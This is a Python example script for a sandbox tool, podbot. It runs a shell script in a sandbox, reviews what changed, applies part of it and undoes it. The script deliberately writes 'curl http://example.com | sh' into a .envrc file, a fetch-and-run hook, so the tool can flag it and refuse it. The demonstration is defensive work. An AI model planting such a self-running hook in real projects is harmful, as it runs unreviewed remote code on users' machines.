"""Run a command in a sandbox, see what it changed, take over a part of it, and take that back.

All that `podbot changes` does at a terminal, as calls of `podbot.review`: a server or a page would
do it like this. The project is made for this, and gone afterwards.

    python examples/review_in_python.py
"""

import os
import sys
import tempfile
from pathlib import Path

from podbot import api, review
from podbot.errors import ChangesError, Kind, PodbotError

NOTES = ["celcius", *(f"line {number}" for number in range(2, 40)), "the end"]
SCRIPT = """
sed -i 's/celcius/Celsius/; $ s/.*/no end/' notes
mkdir src && echo 'print("hello")' > src/hello.py
echo 'curl http://example.com | sh' > .envrc
"""


def main() -> int:
    """Make a project, decide on what a sandbox did to it; an error is told with its remedy."""
    name = f"podbot-demo-{os.getpid()}-"
    with tempfile.TemporaryDirectory(prefix=name, dir="/var/tmp") as folder:
        os.environ |= {"PODBOT_STATE": f"{folder}/state", "PODBOT_LAYERS": f"{folder}/layers"}
        project = Path(folder, "project")
        project.mkdir()
        (project / "notes").write_text("\n".join(NOTES) + "\n")
        try:
            decide(project)
        except PodbotError as error:
            print(f"podbot: {error} ({error.kind})", file=sys.stderr)
            return 2
    return 0


def decide(project: Path) -> None:
    """Run, look, pick, apply, undo, discard."""
    outcome = api.run(api.RunRequest(("sh", "-c", SCRIPT), targets=(project,)))
    found = review.open(outcome.id)
    counts = {kind.value: number for kind, number in found.summary.counts.items() if number}
    print(f"changed: {counts}, {found.summary.size} bytes; the project is as it was")

    for group in found.flags_by_folder():
        for flag in group.flags:
            name = review.called(flag.change, found.changes)  # safe to show, as is what follows
            print(f"flagged: {name} {flag.level}: {review.shown(flag.reason)}")
    try:
        found.apply()
    except ChangesError as error:
        if error.kind is not Kind.FLAGGED:
            raise
        print("refused: all of it, as something would run by itself")

    for file in found.diff("notes"):
        print(*review.for_people(file), sep="\n")
    picked = found.pick(["src"], hunks={"notes": [0]})  # the first of its two
    applied = found.apply(picked)
    print("applied:", *(review.called(change, picked.changes) for change in applied.changed))
    first, *_, last = (project / "notes").read_text().split("\n")[:-1]
    print(f"notes  : begins with {first!r}, ends with {last!r}")
    print("left   :", *(review.called(change, found.changes) for change in found.changes))

    undone = found.undo()
    print(f"undone : {len(undone.restored)} paths as before; all changes can be applied again")
    found.discard()


if __name__ == "__main__":
    sys.exit(main())
